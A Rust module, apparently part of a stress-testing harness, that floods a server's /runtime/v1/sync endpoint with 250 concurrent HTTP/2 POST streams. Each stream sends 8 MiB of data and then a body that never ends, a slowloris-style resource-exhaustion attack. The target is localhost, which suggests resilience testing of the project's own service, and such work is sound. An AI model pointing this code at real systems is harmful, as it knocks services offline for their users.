//! One HTTP/2 connection without credentials, and 250 requests on it that are never whole.

use std::sync::Arc;

use axum::body::{Body, Bytes};
use futures_util::{StreamExt as _, stream};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Orders;

/// Requests at once.
const STREAMS: usize = 250;
/// Pieces of each: 8 MiB, which is what a sync may have.
const PIECES: usize = 512;
const PIECE_BYTES: usize = 16 * 1024;

pub(super) async fn attack(orders: Orders) -> anyhow::Result<()> {
    let piece = Bytes::from(vec![b'['; PIECE_BYTES]);
    while !orders.is_over() {
        let stream = TcpStream::connect(orders.to).await?;
        let (requests, driver) =
            hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
        let driving = tokio::spawn(driver);
        let mut sending = JoinSet::new();
        while !orders.is_over() && !driving.is_finished() {
            while sending.len() < STREAMS {
                let (mut requests, orders) = (requests.clone(), orders.clone());
                let request = half(piece.clone(), &orders)?;
                sending.spawn(async move {
                    let answer = requests.send_request(request).await;
                    orders.answered(answer.is_ok_and(|answer| answer.status().is_success()));
                });
            }
            tokio::select! {
                _ = sending.join_next() => {}
                () = tokio::time::sleep(std::time::Duration::from_millis(100)) => {}
            }
        }
        driving.abort();
    }
    Ok(())
}

/// A sync whose first line never ends.
fn half(piece: Bytes, orders: &Orders) -> anyhow::Result<hyper::Request<Body>> {
    let orders = Arc::new(orders.clone());
    let pieces = stream::iter(0..PIECES).map(move |_| {
        orders.sent(PIECE_BYTES);
        Ok::<_, std::io::Error>(piece.clone())
    });
    let body = Body::from_stream(pieces.chain(stream::pending()));
    Ok(hyper::Request::post("http://localhost/runtime/v1/sync").body(body)?)
}
